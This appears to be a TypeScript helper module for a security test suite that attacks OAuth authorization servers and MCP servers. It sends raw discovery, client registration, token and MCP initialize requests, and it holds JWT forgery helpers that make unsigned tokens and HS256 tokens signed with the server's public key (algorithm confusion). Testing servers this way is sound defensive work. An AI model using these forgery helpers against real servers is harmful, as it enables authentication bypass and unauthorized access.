import { createHash, createHmac, randomBytes } from 'node:crypto';
import { z } from 'zod';
import type { RawAnswer, RawRequest } from './raw-request.ts';
import { sendRaw } from './raw-request.ts';

const metadataSchema = z.looseObject({
  issuer: z.string(),
  authorization_endpoint: z.string(),
  token_endpoint: z.string(),
  registration_endpoint: z.string(),
  jwks_uri: z.string(),
});

/** The parts of an authorization server's metadata that attacks begin with. */
export type ServerMetadata = z.infer<typeof metadataSchema>;

/** An answer whose body was JSON; `json` is `undefined` where it was not. */
export type JsonAnswer = RawAnswer & { json: Record<string, unknown> | undefined };

/** Fetches the metadata of an issuer (RFC 8414, section 3.1). */
export async function discover(issuer: string): Promise<ServerMetadata> {
  const { origin, pathname } = new URL(issuer);
  const suffix = pathname === '/' ? '' : pathname;
  const answer = await sendRaw(`${origin}/.well-known/oauth-authorization-server${suffix}`);
  return metadataSchema.parse(JSON.parse(answer.text));
}

/** Registers a client with `metadata` just as it is (RFC 7591). */
export function register(
  server: ServerMetadata,
  metadata: Record<string, unknown>,
  raw: Pick<RawRequest, 'headers' | 'fromAddress'> = {},
): Promise<JsonAnswer> {
  return sendJson(server.registration_endpoint, {
    ...raw,
    body: JSON.stringify(metadata),
    headers: { ...jsonHeaders, ...raw.headers },
  });
}

/** A PKCE verifier with its S256 challenge (RFC 7636). */
export function createPkce(): { verifier: string; challenge: string } {
  const verifier = randomBytes(32).toString('base64url');
  return { verifier, challenge: createHash('sha256').update(verifier).digest('base64url') };
}

/** An authorization URL with `params` and nothing else; undefined values are left out. */
export function authorizationUrl(server: ServerMetadata, params: Record<string, string | undefined>): URL {
  const url = new URL(server.authorization_endpoint);
  for (const [name, value] of Object.entries(params)) if (value !== undefined) url.searchParams.append(name, value);
  return url;
}

/** Asks the token endpoint with `params` and nothing else; undefined values are left out. */
export function requestToken(
  server: ServerMetadata,
  params: Record<string, string | undefined>,
  raw: Pick<RawRequest, 'headers' | 'fromAddress' | 'agent'> = {},
): Promise<JsonAnswer> {
  const given = Object.entries(params).flatMap(([name, value]): [string, string][] =>
    value === undefined ? [] : [[name, value]],
  );
  return sendJson(server.token_endpoint, { ...raw, body: new URLSearchParams(given) });
}

/** Posts `initialize` to an MCP server, or sends another method without a body; `headers` and the query of `mcpUrl` are the attack. */
export function callMcp(mcpUrl: string | URL, raw: RawRequest = {}): Promise<JsonAnswer> {
  const accept = 'application/json, text/event-stream';
  const hasBody = (raw.method ?? 'POST') === 'POST';
  const headers = { accept, ...(hasBody && jsonHeaders), ...raw.headers };
  return sendJson(mcpUrl, { ...(hasBody && { body: initializeRequest }), ...raw, headers });
}

/** The header of a request with `token`. */
export function bearer(token: string): { authorization: string } {
  return { authorization: `Bearer ${token}` };
}

/** A JWT of any header and claims; signed by `sign`, or with an empty signature. */
export function forgeToken(
  header: Record<string, unknown>,
  claims: Record<string, unknown>,
  sign: (input: string) => Buffer = () => Buffer.alloc(0),
): string {
  const input = [header, claims].map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.');
  return `${input}.${sign(input).toString('base64url')}`;
}

/** Signs as HS256 with a secret: the attack takes the server's public key for one. */
export function signWithHmac(secret: string): (input: string) => Buffer {
  return (input) => createHmac('sha256', secret).update(input).digest();
}

/** The header and the claims of a JWT, unverified. */
export function readToken(token: string): { header: Record<string, unknown>; claims: Record<string, unknown> } {
  const [header, claims] = token
    .split('.', 2)
    .map((part) => z.record(z.string(), z.unknown()).safeParse(parseJson(part)).data);
  if (!header || !claims) throw new Error('not a JWT');
  return { header, claims };
}

/** Sends a raw request and reads its answer as JSON. */
export async function sendJson(url: string | URL, raw: RawRequest): Promise<JsonAnswer> {
  const answer = await sendRaw(url, raw);
  return { ...answer, json: jsonOf(answer.text) };
}

const jsonHeaders = { 'content-type': 'application/json' };

const initializeRequest = JSON.stringify({
  jsonrpc: '2.0',
  id: 1,
  method: 'initialize',
  params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'attacker', version: '1.0.0' } },
});

function parseJson(base64url: string): unknown {
  return JSON.parse(Buffer.from(base64url, 'base64url').toString('utf8'));
}

function jsonOf(text: string): Record<string, unknown> | undefined {
  try {
    return z.record(z.string(), z.unknown()).safeParse(JSON.parse(text)).data;
  } catch {
    return undefined;
  }
}
